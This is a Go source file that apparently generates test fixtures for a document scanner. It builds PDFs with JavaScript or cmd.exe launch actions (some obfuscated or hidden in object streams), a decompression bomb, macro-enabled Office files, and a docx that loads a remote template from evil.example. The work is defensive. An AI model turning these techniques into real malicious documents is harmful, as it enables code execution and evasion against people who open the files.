package corpus

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"unicode/utf16"
)

// pdf puts objects together to a PDF with a table of where they are; the first
// is the catalog.
func pdf(trailer string, objects ...string) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var offsets []int
	for i, o := range objects {
		offsets = append(offsets, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range offsets {
		fmt.Fprintf(&out, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
	return out.Bytes()
}

func (b *builder) deflated(dictionary, data string) string {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, err := w.Write([]byte(data))
	b.check(err)
	b.check(w.Close())
	return fmt.Sprintf("<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", dictionary, z.Len(), z.String())
}

const (
	catalog = "<< /Type /Catalog /Pages 2 0 R >>"
	pages   = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
	page    = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
)

func (b *builder) content() string {
	return b.deflated("", "BT /F1 12 Tf 20 100 Td (This speaks of JavaScript, and has none.) Tj ET "+strings.Repeat("0 0 m 10 10 l S ", 100))
}

func pdfLetter(b *builder) []byte { return pdf("", catalog, pages, page, b.content()) }

func pdfScript(b *builder) []byte {
	return pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", pages, page, b.content(), "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
}

func pdfEscaped(b *builder) []byte {
	return pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", pages, page, b.content(), "<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>")
}

// pdfHidden has its script in a compressed object stream.
func pdfHidden(b *builder) []byte {
	const object = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	return pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", pages, page, b.content(), b.deflated("/Type /ObjStm /N 1 /First 4", "6 0 "+object))
}

func pdfLaunch(b *builder) []byte {
	return pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", pages, page, b.content(), "<< /S /Launch /F (cmd.exe) >>")
}

func passwordPDF(b *builder) []byte {
	return pdf("/Encrypt 5 0 R ", catalog, pages, page, b.content(), "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ("+strings.Repeat("o", 32)+") /U ("+strings.Repeat("u", 32)+") >>")
}

func pdfBomb(b *builder) []byte {
	return pdf("", catalog, pages, page, b.content(), b.deflated("/Type /ObjStm /N 1 /First 4", strings.Repeat("\x00", 100<<20)))
}

func pdfWithZip(b *builder) []byte { return append(pdfLetter(b), zipFolder(b)...) }

const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/%s" ContentType="%s"/></Types>`

const relationships = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/></Relationships>`

// ooxml is an Office Open XML package with one part, and more entries.
func (b *builder) ooxml(part, contentType, xml string, more ...entry) []byte {
	entries := []entry{
		{name: "[Content_Types].xml", data: fmt.Appendf(nil, contentTypes, part, contentType)},
		{name: "_rels/.rels", data: fmt.Appendf(nil, relationships, part)},
		{name: part, data: []byte(xml)},
	}
	return b.zip(append(entries, more...)...)
}

const (
	wordType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	wordXML  = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`
)

func docxReport(b *builder) []byte {
	return b.ooxml("word/document.xml", wordType, wordXML, entry{name: "word/media/image1.png", data: pngPicture(b), stored: true})
}

func xlsxTable(b *builder) []byte {
	return b.ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
		`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`)
}

func pptxSlides(b *builder) []byte {
	return b.ooxml("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
		`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`)
}

func docmReport(b *builder) []byte {
	return b.ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", wordXML, entry{name: "word/vbaProject.bin", data: compoundFile("VBA", "_VBA_PROJECT")})
}

func remoteTemplate(b *builder) []byte {
	return b.ooxml("word/document.xml", wordType, wordXML, entry{name: "word/_rels/settings.xml.rels", data: []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`)})
}

func odtLetter(b *builder) []byte {
	return b.zip(
		entry{name: "mimetype", data: []byte("application/vnd.oasis.opendocument.text"), stored: true},
		entry{name: "content.xml", data: []byte(`<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"><office:body><office:text/></office:body></office:document-content>`)},
		entry{name: "META-INF/manifest.xml", data: []byte(`<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`)},
	)
}

func xlsMacros(*builder) []byte {
	return compoundFile("Workbook", "_VBA_PROJECT_CUR", "VBA", "_VBA_PROJECT")
}
func passwordDocument(*builder) []byte { return compoundFile("EncryptionInfo", "EncryptedPackage") }

// compoundFile is a compound file ([MS-CFB]) with one sector of sector numbers,
// one of directory entries with the names, at most three beside the root, and
// one of data.
func compoundFile(names ...string) []byte {
	const sector = 512
	data := make([]byte, sector*5)
	copy(data, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	put16 := func(at int, v uint16) { data[at], data[at+1] = byte(v), byte(v>>8) }
	put32 := func(at int, v uint32) { put16(at, uint16(v)); put16(at+2, uint16(v>>16)) }
	put16(24, 0x3e)
	put16(26, 3)
	put16(28, 0xfffe)
	put16(30, 9)
	put16(32, 6)
	put32(44, 1)          // one sector of the FAT
	put32(48, 1)          // the directory begins at sector 1
	put32(56, 4096)       // streams below this lie in the mini stream
	put32(60, 0xfffffffe) // there is no mini FAT
	put32(68, 0xfffffffe) // and no DIFAT beyond this header
	put32(76, 0)
	for i := 1; i < 109; i++ {
		put32(76+4*i, 0xffffffff)
	}
	fat := sector
	for i := range sector / 4 {
		put32(fat+4*i, 0xffffffff)
	}
	put32(fat, 0xfffffffd)   // the FAT itself
	put32(fat+4, 2)          // the directory, of two sectors
	put32(fat+8, 0xfffffffe) // its end
	put32(fat+12, 0xfffffffe)
	directory := 2 * sector
	for i, name := range append([]string{"Root Entry"}, names...) {
		at := directory + 128*i
		units := utf16.Encode([]rune(name))
		for j, u := range units {
			put16(at+2*j, u)
		}
		put16(at+64, uint16(2*len(units)+2))
		data[at+66], data[at+67] = 2, 1
		if i == 0 {
			data[at+66] = 5
		}
		put32(at+68, 0xffffffff)
		put32(at+72, 0xffffffff)
		put32(at+76, 0xffffffff)
		switch {
		case i == 0:
			put32(at+76, 1)
		case i < len(names):
			put32(at+72, uint32(i+1))
		}
		put32(at+116, 0xfffffffe)
	}
	return data
}
